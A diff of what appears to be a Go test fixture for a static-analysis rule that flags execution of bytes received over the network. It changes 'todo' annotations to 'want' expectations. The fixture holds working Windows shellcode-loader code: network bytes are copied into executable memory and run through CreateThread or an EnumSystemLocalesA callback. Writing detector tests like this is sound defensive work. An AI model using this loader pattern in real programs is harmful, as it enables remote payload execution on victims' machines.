@@ -45,10 +45,10 @@ func stage(url string) error {
 	}
 	procRtlCopyMemory.Call(addr, uintptr(unsafe.Pointer(&sc[0])), uintptr(len(sc)))
 	var old uint32
-	if err := windows.VirtualProtect(addr, uintptr(len(sc)), windows.PAGE_EXECUTE_READ, &old); err != nil { // todo "dynamic-code/network-bytes-executed"
+	if err := windows.VirtualProtect(addr, uintptr(len(sc)), windows.PAGE_EXECUTE_READ, &old); err != nil { // want "dynamic-code/network-bytes-executed"
 		return err
 	}
-	th, _, _ := procCreateThread.Call(0, 0, addr, 0, 0, 0) // todo "dynamic-code/network-bytes-executed"
+	th, _, _ := procCreateThread.Call(0, 0, addr, 0, 0, 0) // want "dynamic-code/network-bytes-executed"
 	windows.WaitForSingleObject(windows.Handle(th), windows.INFINITE)
 	return nil
 }
@@ -80,7 +80,7 @@ func callback(conn net.Conn) {
 	sc, _ := io.ReadAll(conn)
 	addr, _ := windows.VirtualAlloc(0, uintptr(len(sc)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
 	procRtlCopyMemory.Call(addr, uintptr(unsafe.Pointer(&sc[0])), uintptr(len(sc)))
-	procEnumSystemLocalesA.Call(addr, 0) // todo "dynamic-code/network-bytes-executed"
+	procEnumSystemLocalesA.Call(addr, 0) // want "dynamic-code/network-bytes-executed"
 }
 
 // linuxStage maps received bytes, makes the page executable and jumps to it.
